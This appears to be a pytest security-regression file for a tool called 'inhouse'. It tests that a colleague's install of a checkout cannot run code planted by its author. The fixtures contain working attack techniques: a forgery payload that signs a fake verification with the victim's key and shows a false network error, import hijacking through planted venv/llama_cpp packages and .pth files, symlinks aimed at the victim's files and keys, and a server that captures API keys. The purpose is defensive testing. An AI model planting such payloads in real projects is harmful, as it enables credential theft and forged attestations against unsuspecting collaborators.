"""The outsider, round 17: paths through plays 1 to 3 the earlier walks do not try.

lena leads the program and owns plays 1 and 2 (tests/test_outsider.py's lena: one laptop, one
account at the organisation's identity provider, full control of her machine, the program
folder and what is in its git repository, its database and the Python API). Where a walk needs
a real colleague (omar, signed in with his own account, on his own laptop), he does only what he
would honestly do: run, once, on his own machine, the one command lena asks him to run, in the
checkout of the program folder she prepared.

What the walk found: ``inhouse baseline install``, which a second person runs with the inhouse
they joined with so that nothing the baseline's author wrote runs on their machine (never
install.sh's bytes), still ran the author's code there, with the second person's key: the
script it runs started Python in the checkout (``python -m venv``, ``python -m pip``), which
imports a ``venv`` or ``pip`` package lying in the checkout before the standard one, and it
created its virtual environment over one the checkout already held (a ``.pth`` file there runs
at pip's start; a ``pip.conf`` there picks the index). That code signed a passing verify in
omar's name, with no runtime stood up (closed: Python runs isolated, ``-I``, and the
checkout's own virtual environment is made afresh, ``--clear``, never through a symlink). The
same with the embedded runtime: ``inhouse runtime serve`` in the checkout (the install script's
step, and the docs') ran ``python -m llama_cpp.server`` there, so a ``llama_cpp`` package in it
ran as the runtime, with omar's rights and key, and would have answered his rerun and his
workflow tests as her checks want under the blessed file's digest (closed: ``PYTHONSAFEPATH``).
And with neither: a blessed "model" whose path is a ``.pth`` file in the venv the install just
made, fetched from a file she commits and locked by its own SHA-256, ran at the start of the
verify that ends the install (closed: the install writes only ``*.gguf`` files, inside the
checkout). Left, a strict xfail: a key the checkout's runtime names (``api_key_env``) is sent to
the url it names, so omar's own gateway key, where the pilot guide keeps it, goes to her server.
"""

from __future__ import annotations

import shutil
import sys
import sysconfig
from pathlib import Path

import pytest
from typer.testing import CliRunner

import inhouse
from inhouse.baseline.install import default_venv
from inhouse.baseline.lock import lock_fact_payload, require_lock
from inhouse.cli.app import app
from inhouse.program import Program
from inhouse.program.checks import Outcome
from inhouse.runtimes.testmodel import make_test_model
from tests.baseline.test_install_own import locked_program
from tests.conftest import OTHER_COMPUTER
from tests.people import enrol_cli
from tests.test_engine import measured
from tests.test_sign_in import _judge

runner = CliRunner()

#: what lena's code does once it runs on omar's machine: sign, with omar's key (the one his
#: environment names), a passing verify of the current lock in the team's store, then stop the
#: install with an error omar takes for a network fault. No runtime answers anywhere.
FORGERY = """\
import sys
from pathlib import Path

from inhouse.baseline.lock import read_lock
from inhouse.baseline.verify import COLLECTOR, machine_fingerprint
from inhouse.program import Program, Provenance

folder = Path.cwd()
lock = read_lock(folder)
program = Program.open(folder)
try:
    program.record_fact(
        None,
        "baseline.verify",
        {
            "lock_hash": lock.lock_hash,
            "passed": True,
            "machine": machine_fingerprint(),
            "failures": [],
            "models": [{"name": m.name, "digest": m.digest} for m in lock.models],
            "inhouse": {"version": lock.inhouse, "installed_from": "index"},
        },
        provenance=Provenance.MEASURED,
        collector=COLLECTOR,
    )
finally:
    program.close()
(folder / "lena-ran").write_text("her code ran with omar's key")
sys.exit("pip: network unreachable")
"""


def _plant_module(checkout: Path) -> None:
    """A ``venv`` package at the checkout's root: ``python -m venv`` run there imports it."""
    package = checkout / "venv"
    package.mkdir()
    (package / "__init__.py").write_text("")
    (package / "__main__.py").write_text(FORGERY)


def _plant_venv(checkout: Path) -> None:
    """The checkout's own virtual environment, seeded: a ``.pth`` file in its site-packages
    runs at the start of every Python of that environment (pip's, first)."""
    minor = f"python{sys.version_info.major}.{sys.version_info.minor}"
    site = checkout / ".inhouse" / "venv" / "lib" / minor / "site-packages"
    site.mkdir(parents=True)
    # her code brings what it needs; here, the packages this suite runs on
    needs = f"import sys\nsys.path.append({sysconfig.get_paths()['purelib']!r})\n"
    (site / "lena_forgery.py").write_text(needs + FORGERY)
    (site / "zz-lena.pth").write_text("import lena_forgery\n")


@pytest.mark.parametrize("plant", [_plant_module, _plant_venv], ids=["module", "venv"])
def test_a_checkout_s_code_never_runs_in_the_second_person_s_install(
    _isolated: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    plant: object,
) -> None:
    # lena's laptop: a real (non-demo) program with a locked baseline; omar joins from his own
    # laptop and signs in with his own account
    monkeypatch.setenv(OTHER_COMPUTER, "lena-laptop")
    lock_hash = locked_program(_isolated)
    lena = Program.open(_isolated)
    try:
        measured(lena, "baseline.lock", **lock_fact_payload(require_lock(_isolated)))
        omar = enrol_cli(lena, "omar", tmp_path / "keys", team="support")
    finally:
        lena.close()

    # the checkout omar pulls from lena's repository: the program's files, and hers
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    for name in ("inhouse.toml", "inhouse.lock"):
        (checkout / name).write_bytes((_isolated / name).read_bytes())
    assert callable(plant)
    plant(checkout)

    # omar runs the one command the docs give a second person, with his own inhouse and key,
    # recording in the team's store; nothing answers at the lock's runtime, and pip finds no
    # index (it fails at once, as the forgery pretends to)
    env = {
        **omar,
        "INHOUSE_DATABASE_URL": f"sqlite:///{_isolated / '.inhouse' / 'inhouse.db'}",
        "PYTHON": sys.executable,
        "PYTHONPATH": str(Path(inhouse.__file__).resolve().parents[1]),
        "PIP_NO_INDEX": "1",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        OTHER_COMPUTER: "",
    }
    monkeypatch.delenv(OTHER_COMPUTER)  # his laptop is another computer than lena's
    done = runner.invoke(app, ["--program", str(checkout), "baseline", "install"], env=env)
    assert done.exit_code != 0  # the pinned inhouse cannot be installed here, honestly or not
    assert "Traceback" not in done.stdout + done.stderr

    # her code never ran, and no verify stands in omar's name: the check still asks for one
    assert not (checkout / "lena-ran").exists()
    monkeypatch.setenv(OTHER_COMPUTER, "lena-laptop")
    lena = Program.open(_isolated)
    try:
        assert not [f for f in lena.state().facts if f.kind == "baseline.verify"]
        result = _judge(lena, "baseline", "second-person-verified")
    finally:
        lena.close()
    assert result.outcome is Outcome.FAIL, result.reason
    assert f"no passing verify of lock {lock_hash[:12]}" in result.reason


def test_the_checkout_s_old_venv_is_never_followed_out_of_it(
    _isolated: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """The install removes the venv earlier installs made in the checkout (``.inhouse/venv``):
    through a symlink lena commits in its place, that would empty whatever folder of omar's it
    points at. The link goes; its target is left alone, and nothing is made there."""
    locked_program(_isolated)
    precious = tmp_path / "omar-home"
    precious.mkdir()
    (precious / "thesis.txt").write_text("four years")
    (_isolated / ".inhouse" / "venv").symlink_to(precious, target_is_directory=True)
    monkeypatch.setenv("PYTHON", sys.executable)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    done = runner.invoke(app, ["baseline", "install"])
    assert done.exit_code != 0  # no index: the pinned inhouse is not installed
    # the script's own processes: their output is on the real stdout
    assert "removing .inhouse/venv" in capfd.readouterr().out
    assert not (_isolated / ".inhouse" / "venv").is_symlink()
    assert (precious / "thesis.txt").read_text() == "four years"
    assert not (precious / "bin").exists()  # nothing made there either
    assert (default_venv(_isolated) / "bin" / "python").exists()


def test_the_checkout_s_state_folder_is_never_a_link_out_of_it(
    _isolated: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """``.inhouse`` committed as a link: the install writes models and removes the old venv
    there, so it stops before touching it."""
    locked_program(_isolated)
    precious = tmp_path / "omar-home"
    (precious / "venv").mkdir(parents=True)
    (precious / "venv" / "thesis.txt").write_text("four years")
    shutil.rmtree(_isolated / ".inhouse")
    (_isolated / ".inhouse").symlink_to(precious, target_is_directory=True)
    monkeypatch.setenv("PYTHON", sys.executable)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    done = runner.invoke(app, ["--program", str(_isolated), "baseline", "install"])
    assert done.exit_code != 0
    assert ".inhouse is a symbolic link in this checkout" in capfd.readouterr().err
    assert (precious / "venv" / "thesis.txt").read_text() == "four years"


def test_a_venv_of_the_second_person_s_own_is_kept(
    _isolated: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--venv`` (``INHOUSE_VENV``) names an environment of the second person's own choosing,
    outside anything the checkout holds: it is used as it is, never emptied."""
    locked_program(_isolated)
    own = tmp_path / "own-venv"
    own.mkdir()
    (own / "notes.txt").write_text("mine")
    monkeypatch.setenv("PYTHON", sys.executable)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    done = runner.invoke(app, ["baseline", "install", "--venv", str(own)])
    assert done.exit_code != 0  # no index: the pinned inhouse is not installed
    assert (own / "notes.txt").read_text() == "mine"
    assert (own / "bin" / "python").exists()  # the environment was made there


def test_a_checkout_s_code_never_runs_as_the_embedded_runtime(
    _isolated: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """omar starts the embedded runtime in the checkout (`inhouse runtime serve`, as the docs
    and the install script do): inhouse runs ``python -m llama_cpp.server`` there, which
    imported a ``llama_cpp`` package lying in the checkout before the installed one. Her
    server would have answered every rerun and workflow test on his machine with what her
    checks want, under the digest inhouse hashes from the blessed file; here it signs the
    verify in his name at once."""
    monkeypatch.setenv(OTHER_COMPUTER, "lena-laptop")
    lock_hash = locked_program(_isolated)
    lena = Program.open(_isolated)
    try:
        measured(lena, "baseline.lock", **lock_fact_payload(require_lock(_isolated)))
        omar = enrol_cli(lena, "omar", tmp_path / "keys", team="support")
    finally:
        lena.close()
    checkout = tmp_path / "checkout"
    (checkout / "models").mkdir(parents=True)
    for name in ("inhouse.toml", "inhouse.lock"):
        (checkout / name).write_bytes((_isolated / name).read_bytes())
    make_test_model(checkout / "models" / "m.gguf")
    server = checkout / "llama_cpp" / "server"
    server.mkdir(parents=True)
    (checkout / "llama_cpp" / "__init__.py").write_text("")
    (server / "__init__.py").write_text("")
    (server / "__main__.py").write_text(FORGERY)

    monkeypatch.chdir(checkout)  # where omar runs it: his checkout of the program folder
    monkeypatch.delenv(OTHER_COMPUTER)
    env = {
        **omar,
        "INHOUSE_DATABASE_URL": f"sqlite:///{_isolated / '.inhouse' / 'inhouse.db'}",
        "PYTHONPATH": str(Path(inhouse.__file__).resolve().parents[1]),
    }
    done = runner.invoke(
        app,
        ["--program", str(checkout), "runtime", "serve", "models/m.gguf", "--ready-timeout", "60"],
        env=env,
    )
    try:
        assert not (checkout / "lena-ran").exists()
        assert done.exit_code == 0, done.stdout + done.stderr  # the real server answers
    finally:
        runner.invoke(app, ["--program", str(checkout), "runtime", "stop"], env=env)

    monkeypatch.setenv(OTHER_COMPUTER, "lena-laptop")
    lena = Program.open(_isolated)
    try:
        assert not [f for f in lena.state().facts if f.kind == "baseline.verify"]
        result = _judge(lena, "baseline", "second-person-verified")
    finally:
        lena.close()
    assert result.outcome is Outcome.FAIL, result.reason
    assert f"no passing verify of lock {lock_hash[:12]}" in result.reason


def _stand_in_release(folder: Path) -> Path:
    """A wheel of ``inhouse`` at this release whose ``inhouse --version`` says so: it stands in
    for the pinned release omar's own index serves (the suite cannot build the real one
    quickly), and does nothing else."""
    import base64
    import hashlib
    import zipfile

    version = inhouse.__version__
    info = f"inhouse-{version}.dist-info"
    files = {
        "stand_in_inhouse.py": (
            "import sys\n\ndef main():\n"
            f"    if sys.argv[1:] == ['--version']:\n        print('inhouse {version}')\n"
            "    else:\n        sys.exit('the stand-in release does nothing else')\n"
        ),
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: inhouse\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
        "Tag: py3-none-any\n",
        f"{info}/entry_points.txt": "[console_scripts]\ninhouse = stand_in_inhouse:main\n",
    }
    record = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record.append(f"{name},sha256={digest.decode()},{len(text.encode())}")
    record.append(f"{info}/RECORD,,")
    folder.mkdir(parents=True, exist_ok=True)
    wheel = folder / f"inhouse-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
        archive.writestr(f"{info}/RECORD", "\n".join(record) + "\n")
    return folder


def test_a_blessed_model_s_file_is_never_written_where_it_would_run(
    _isolated: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """lena blesses a "model" whose path is a ``.pth`` file in the venv the install just made
    (a path inside the checkout, as a model's is), whose source is a file she commits, and
    locks it by that file's SHA-256 (the lock is hers to pin, from an inventory she states).
    The install fetches it there and checks its digest; the next Python of that venv (the
    verify that ends the install) runs her line with omar's key."""
    from inhouse.baseline.lock import build_lock, write_lock
    from inhouse.baseline.manifest import read_manifest
    from inhouse.runtimes.digests import sha256_digest
    from inhouse.runtimes.protocol import Inventory, ModelInfo

    monkeypatch.setenv(OTHER_COMPUTER, "lena-laptop")
    runner.invoke(app, ["init", "Acme", "--lead", "lena"])
    minor = f"python{sys.version_info.major}.{sys.version_info.minor}"
    payload = _isolated / "payload.pth"
    needs = f"sys.path.append({sysconfig.get_paths()['purelib']!r})"
    payload.write_text(
        f"import sys; {needs}; exec(open('forgery.py').read())\n"  # one line: a .pth runs it
    )
    (_isolated / "forgery.py").write_text(FORGERY)
    config = _isolated / "inhouse.toml"
    config.write_text(
        config.read_text()
        + '\n[runtimes.local]\nfamily = "openai"\nurl = "http://127.0.0.1:9"\n\n'
        + '[baseline]\nowner = "lena"\nruntime = "local"\nmodels = [{ name = "m", path = '
        + f'".inhouse/venv/lib/{minor}/site-packages/zz-model.pth", source = "payload.pth" }}]\n'
    )
    served = Inventory(
        runtime="local", family="openai", url="http://127.0.0.1:9",
        models=[ModelInfo(id="m", digest=sha256_digest(payload), digest_source="file-sha256")],
    )  # fmt: skip
    lock = build_lock(read_manifest(_isolated), served, runtime_family="openai", rules="")
    write_lock(_isolated, lock)
    lena = Program.open(_isolated)
    try:
        measured(lena, "baseline.lock", **lock_fact_payload(lock))
        omar = enrol_cli(lena, "omar", tmp_path / "keys", team="support")
    finally:
        lena.close()
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    for name in ("inhouse.toml", "inhouse.lock", "payload.pth", "forgery.py"):
        (checkout / name).write_bytes((_isolated / name).read_bytes())

    env = {
        **omar,
        "INHOUSE_DATABASE_URL": f"sqlite:///{_isolated / '.inhouse' / 'inhouse.db'}",
        "PYTHON": sys.executable,
        "PYTHONPATH": str(Path(inhouse.__file__).resolve().parents[1]),
        "PIP_NO_INDEX": "1",
        "PIP_FIND_LINKS": str(_stand_in_release(tmp_path / "index")),
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        OTHER_COMPUTER: "",
    }
    monkeypatch.delenv(OTHER_COMPUTER)
    done = runner.invoke(app, ["--program", str(checkout), "baseline", "install"], env=env)
    assert "Traceback" not in done.stdout + done.stderr
    assert not (checkout / "lena-ran").exists()
    assert done.exit_code != 0
    said = " ".join((done.stdout + done.stderr).split())
    assert "zz-model.pth" in said and ".gguf" in said, said

    monkeypatch.setenv(OTHER_COMPUTER, "lena-laptop")
    lena = Program.open(_isolated)
    try:
        assert not [f for f in lena.state().facts if f.kind == "baseline.verify"]
    finally:
        lena.close()


def test_every_python_the_install_script_starts_runs_isolated(_isolated: Path) -> None:
    """The fallbacks too (no sha256sum, no curl nor wget): each Python the script starts in the
    checkout runs with ``-I``, so nothing lying there is imported before the standard library
    (a ``hashlib.py``, a ``shutil.py``)."""
    from inhouse.baseline.install import render_install_script
    from inhouse.baseline.manifest import read_manifest

    locked_program(_isolated)
    text = render_install_script(_isolated, read_manifest(_isolated), require_lock(_isolated))
    started = [
        line.strip()
        for line in text.splitlines()
        if ('"$PYTHON" ' in line or '"$VENV/bin/python" ' in line)
        and not line.lstrip().startswith("#")
    ]
    # the version check, the checkout's id (its venv's name), venv, pip, sha256 and download
    assert len(started) == 6, started
    assert all(" -I " in line for line in started), started


@pytest.mark.parametrize(
    ("path", "source", "named"),
    [
        ("models/m.gguf", "/home/omar/.config/inhouse/key", "/home/omar/.config/inhouse/key"),
        ("/home/omar/.local/m.gguf", "https://files.example/m.gguf", "outside the checkout"),
        ("models/../../m.gguf", "https://files.example/m.gguf", "outside the checkout"),
        (None, "https://files.example/payload.pth", "payload.pth"),
    ],
)
def test_an_install_script_that_would_write_or_read_anything_but_a_model_is_refused(
    _isolated: Path, path: str | None, source: str, named: str
) -> None:
    """Each way a blessed model's file could be written somewhere it runs, or read from a file
    of the second person's that is no model, is refused by the owner's `install-script` and the
    second person's `install`, naming it, before anything is written."""
    locked_program(_isolated)
    config = _isolated / "inhouse.toml"
    where = f'path = "{path}", ' if path else ""
    config.write_text(
        config.read_text().replace(
            'path = "models/m.gguf", source = "https://files.example/m.gguf"',
            f'{where}source = "{source}"',
        )
    )
    for command in (["baseline", "install-script"], ["baseline", "install", "--dry-run"]):
        done = runner.invoke(app, command)
        said = " ".join((done.stdout + done.stderr).split())
        assert done.exit_code != 0, said
        assert "Traceback" not in said
        assert named in said and "blessed model m" in said, said
    assert not (_isolated / "install.sh").exists()


def test_a_key_the_checkout_names_never_leaves_for_the_url_it_names(
    _isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """lena names, as her runtime's api_key_env, the variable the pilot guide has omar keep his
    gateway key in, and points the url at her own server: his honest verify refuses, naming the
    variable, rather than handing her his key (nor when he keeps it under another name)."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    seen: list[str] = []

    class Hers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.headers.get("Authorization") or "")
            body = b'{"object": "list", "data": [{"id": "m", "object": "model"}]}'
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Hers)  # standing for her server elsewhere
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        locked_program(_isolated)
        config = _isolated / "inhouse.toml"
        config.write_text(
            config.read_text().replace(
                'url = "http://127.0.0.1:9"',
                f'url = "http://127.0.0.1:{server.server_address[1]}"\n'
                'api_key_env = "INHOUSE_GATEWAY_KEY"',
            )
        )
        # omar's shell holds his own gateway key where the pilot guide put it
        monkeypatch.setenv("INHOUSE_GATEWAY_KEY", "ih_omar-own-gateway-key")
        done = runner.invoke(app, ["baseline", "verify", "--no-record"])
        # nor where he keeps it under another name, as an OpenAI client's key, say
        config.write_text(config.read_text().replace("INHOUSE_GATEWAY_KEY", "OPENAI_API_KEY"))
        monkeypatch.setenv("OPENAI_API_KEY", "ih_omar-own-gateway-key")
        again = runner.invoke(app, ["baseline", "verify", "--no-record"])
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
    assert not any("ih_omar-own-gateway-key" in header for header in seen), seen
    for result, variable in ((done, "INHOUSE_GATEWAY_KEY"), (again, "OPENAI_API_KEY")):
        said = result.output + str(result.exception or "")
        assert result.exit_code != 0 and "Traceback" not in said, said
        assert f"api_key_env names {variable}" in said and "gateway key" in said, said


@pytest.mark.parametrize("kind", ["file", "url"])
def test_a_model_s_part_file_committed_as_a_link_never_writes_through_it(
    _isolated: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """lena names a ``.gguf`` inside the checkout, as the install asks, but commits its download
    file (``models/m.gguf.part``) as a symbolic link to a module of the venv the install has
    just made. The copy (or download) wrote through the link, over that module, and the link,
    moved into place, passed the digest check on her bytes: the verify that ends the install
    imported them with omar's key. The install writes its own ``.part``, never through a link."""
    from inhouse.baseline.lock import build_lock, write_lock
    from inhouse.baseline.manifest import read_manifest
    from inhouse.runtimes.digests import sha256_digest
    from inhouse.runtimes.protocol import Inventory, ModelInfo

    monkeypatch.setenv(OTHER_COMPUTER, "lena-laptop")
    runner.invoke(app, ["init", "Acme", "--lead", "lena"])
    minor = f"python{sys.version_info.major}.{sys.version_info.minor}"
    payload = _isolated / "payload.gguf"
    payload.write_text(
        "from pathlib import Path\nPath.cwd().joinpath('lena-ran').write_text('ran')\n"
        "def main():\n    raise SystemExit('pip: network unreachable')\n"
    )
    source = "payload.gguf"
    if kind == "url":  # curl downloads it; here a stand-in curl that serves lena's file
        monkeypatch.setenv("PATH", _curl_serving(payload, tmp_path / "bin"))
        source = "https://files.example/payload.gguf"
    config = _isolated / "inhouse.toml"
    config.write_text(
        config.read_text()
        + '\n[runtimes.local]\nfamily = "openai"\nurl = "http://127.0.0.1:9"\n\n'
        + '[baseline]\nowner = "lena"\nruntime = "local"\nmodels = [{ name = "m", path = '
        + f'"models/m.gguf", source = "{source}" }}]\n'
    )
    served = Inventory(
        runtime="local", family="openai", url="http://127.0.0.1:9",
        models=[ModelInfo(id="m", digest=sha256_digest(payload), digest_source="file-sha256")],
    )  # fmt: skip
    lock = build_lock(read_manifest(_isolated), served, runtime_family="openai", rules="")
    write_lock(_isolated, lock)
    lena = Program.open(_isolated)
    try:
        measured(lena, "baseline.lock", **lock_fact_payload(lock))
        omar = enrol_cli(lena, "omar", tmp_path / "keys", team="support")
    finally:
        lena.close()
    checkout = tmp_path / "checkout"
    (checkout / "models").mkdir(parents=True)
    for name in ("inhouse.toml", "inhouse.lock", "payload.gguf"):
        (checkout / name).write_bytes((_isolated / name).read_bytes())
    # the venv lies outside the checkout, at a path she reads off inhouse.toml
    site = default_venv(checkout) / "lib" / minor / "site-packages"
    (checkout / "models" / "m.gguf.part").symlink_to(site / "stand_in_inhouse.py")

    env = {
        **omar,
        "INHOUSE_DATABASE_URL": f"sqlite:///{_isolated / '.inhouse' / 'inhouse.db'}",
        "PYTHON": sys.executable,
        "PYTHONPATH": str(Path(inhouse.__file__).resolve().parents[1]),
        "PIP_NO_INDEX": "1",
        "PIP_FIND_LINKS": str(_stand_in_release(tmp_path / "index")),
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        OTHER_COMPUTER: "",
    }
    monkeypatch.delenv(OTHER_COMPUTER)
    done = runner.invoke(app, ["--program", str(checkout), "baseline", "install"], env=env)
    assert "Traceback" not in done.stdout + done.stderr
    assert not (checkout / "lena-ran").exists()
    assert "lena-ran" not in (site / "stand_in_inhouse.py").read_text()
    # the honest path still holds: the model's bytes were put in place and checked
    assert (checkout / "models" / "m.gguf").read_bytes() == payload.read_bytes()
    assert not (checkout / "models" / "m.gguf").is_symlink()


def _curl_serving(served: Path, folder: Path) -> str:
    """A PATH whose ``curl`` answers any address with ``served``'s bytes, written as curl
    writes its ``-o`` file (opened for writing, through a link there)."""
    import os

    folder.mkdir(parents=True, exist_ok=True)
    curl = folder / "curl"
    curl.write_text(f'#!/bin/sh\n# curl -fsSL -o DEST URL\ncat {served} > "$3"\n')
    curl.chmod(0o755)
    return f"{folder}{os.pathsep}{os.environ['PATH']}"


def test_a_model_whose_bytes_are_not_the_locked_ones_is_never_kept_in_the_checkout(
    _isolated: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """lena's manifest names a file source ``payload.gguf`` (a .gguf, as the install asks),
    which she commits as a link to omar's key file. The copy read his key into the checkout
    as ``models/m.gguf``; its digest is not the one she pinned, so the install stopped, and the
    key waited there as a "model" for his next push. A file fetched or copied goes into place
    only where its bytes are the ones the lock pins; else nothing of it is kept."""
    locked_program(_isolated)
    secret = tmp_path / "omar-home" / ".config" / "inhouse" / "key"
    secret.parent.mkdir(parents=True)
    secret.write_text("omar's private key")
    config = _isolated / "inhouse.toml"
    config.write_text(
        config.read_text().replace(
            'source = "https://files.example/m.gguf"', 'source = "payload.gguf"'
        )
    )
    assert 'source = "payload.gguf"' in config.read_text()
    (_isolated / "payload.gguf").symlink_to(secret)
    env = {
        "PYTHON": sys.executable,
        "PYTHONPATH": str(Path(inhouse.__file__).resolve().parents[1]),
        "PIP_NO_INDEX": "1",
        "PIP_FIND_LINKS": str(_stand_in_release(tmp_path / "index")),
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
    }
    done = runner.invoke(app, ["baseline", "install"], env=env)
    assert done.exit_code != 0
    assert "Traceback" not in done.stdout + done.stderr
    kept = [p for p in (_isolated / "models").glob("m.gguf*") if p.exists()]
    assert kept == [], [p.read_text() for p in kept]
    assert secret.read_text() == "omar's private key"
